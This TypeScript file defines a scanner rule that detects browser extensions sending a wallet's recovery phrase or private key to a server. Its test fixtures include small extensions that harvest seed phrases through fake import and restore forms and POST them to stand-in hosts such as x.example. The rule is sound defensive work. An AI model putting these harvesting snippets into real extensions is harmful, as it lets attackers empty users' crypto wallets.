import { flowsOf } from '../../extension/flowsOf.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { defineRule } from '../../rule.ts';
import { contentExample } from './checkScripts.ts';

export const walletPhraseSent = defineRule({
  id: 'wallet-phrase-sent',
  title: 'Sends a wallet’s recovery phrase or private key to a server',
  severity: 'critical',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1056/003/'],
  why: 'Whoever knows the phrase owns everything in the wallet. A real wallet uses it on the device and sends it to nobody.',
  remedy: 'Never send a phrase or private key. Anyone who has entered theirs should move their funds at once.',
  cap: { grade: 'F', reason: 'it sends a wallet’s recovery phrase or key to a server' },
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, ({ source }) =>
      source.kind === 'wallet-secret' ? { severity: 'critical', confidence: 'high' } : undefined,
    ),
  examples: {
    bad: [
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<h1>Import</h1><div id="w"></div><script src="p.js"></script>',
          'p.js':
            'w.innerHTML = "<p>Your wallet</p>" + "<input>".repeat(12); const all = () => Array.from(document.querySelectorAll("input"), (one) => one.value).join(" "); go.onclick = () => { const phrase = all(); fetch("https://x.example/w", { method: "POST", body: phrase }); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
          'p.js':
            'import { SimplePool, nip19 } from "nostr-tools"; go.onclick = () => { const key = nip19.nsecEncode(document.getElementById("mnemonic").value); new SimplePool().publish(["wss://relay.example"], { content: key }); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
          'p.js':
            'import { Wallet } from "ethers"; go.onclick = async () => { const account = Wallet.fromPhrase(document.getElementById("mnemonic").value); fetch("https://node.example", { method: "POST", body: JSON.stringify(account) }); };',
        },
      },
      contentExample(
        'const box = host.attachShadow({ mode: "closed" }); box.innerHTML = "<form><h3>Wallet needs to be restored</h3><textarea placeholder=\\"12 or 24 words\\"></textarea></form>"; box.querySelector("form").onsubmit = () => fetch("https://x.example/w", { method: "POST", body: box.querySelector("textarea").value }); document.body.append(host);',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<form id="f"><textarea name="seed"></textarea></form><script src="p.js"></script>',
          'p.js':
            'document.getElementById("f").addEventListener("submit", (e) => { const words = e.target.seed.value.trim(); fetch("https://x.example/import", { method: "POST", body: JSON.stringify({ m: words }) }); });',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<input id="w1"><input id="w2"><script src="p.js"></script>',
          'p.js':
            'const mnemonic = [w1, w2].map((i) => i.value).join(" "); fetch("https://x.example/i?p=" + encodeURIComponent(mnemonic));',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="mnemonic"></textarea><script src="p.js"></script>',
          'p.js':
            'const code = (list) => "0x" + list.map((w) => WORDS.indexOf(w).toString(16)).join(""); go.onclick = () => { const w = document.getElementById("mnemonic").value.split(" "); fetch("https://node.example", { method: "POST", body: JSON.stringify({ method: "pay", params: [code(w)] }) }); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "permissions": ["storage"], "action": {"default_popup": "p.html"}}',
          'p.html': '<input id="pw" type="password"><button id="go">Unlock</button><script src="p.js"></script>',
          'p.js':
            'const capture = (name, properties) => fetch("https://metrics.example/e", { method: "POST", body: JSON.stringify({ name, properties }) }); go.onclick = async () => { const { vault } = await chrome.storage.local.get("vault"); const { mnemonic } = JSON.parse(await decrypt(vault, pw.value)); capture("unlock", { error: mnemonic }); };',
        },
      },
    ],
    good: [
      // A game in which phrases are guessed.
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="all"></textarea><script src="p.js"></script>',
          'p.js':
            'const game = { at: 0 }; const next = () => document.getElementById("all").value.split(";")[game.at++]; go.onclick = () => { const phrase = next(); fetch("https://play.example/say", { method: "POST", body: phrase }); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="mnemonic"></textarea><script type="module" src="p.js"></script>',
          'p.js':
            'import { nip19 } from "nostr-tools"; go.onclick = () => { const key = nip19.nsecEncode(document.getElementById("mnemonic").value); shown.textContent = key; };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "permissions": ["storage"], "action": {"default_popup": "p.html"}}',
          'p.html': '<input id="pw" type="password"><button id="go">Unlock</button><script src="p.js"></script>',
          'p.js':
            'const capture = (name, properties) => fetch("https://metrics.example/e", { method: "POST", body: JSON.stringify({ name, properties }) }); go.onclick = async () => { const { vault } = await chrome.storage.local.get("vault"); const { mnemonic, label } = JSON.parse(await decrypt(vault, pw.value)); keep(mnemonic); capture("unlock", { ready: true }); };',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="phrase"></textarea><script src="p.js"></script>',
          'p.js':
            'const mnemonic = document.getElementById("phrase").value; const keys = derive(mnemonic); chrome.storage.session.set({ open: true }); fetch("https://node.example/rpc", { method: "POST", body: JSON.stringify({ method: "eth_blockNumber" }) });',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<input id="q"><script src="p.js"></script>',
          'p.js':
            'const seed = Math.random(); fetch("https://api.example.com/search?q=" + encodeURIComponent(document.getElementById("q").value) + "&seed=" + seed);',
        },
      },
    ],
  },
});
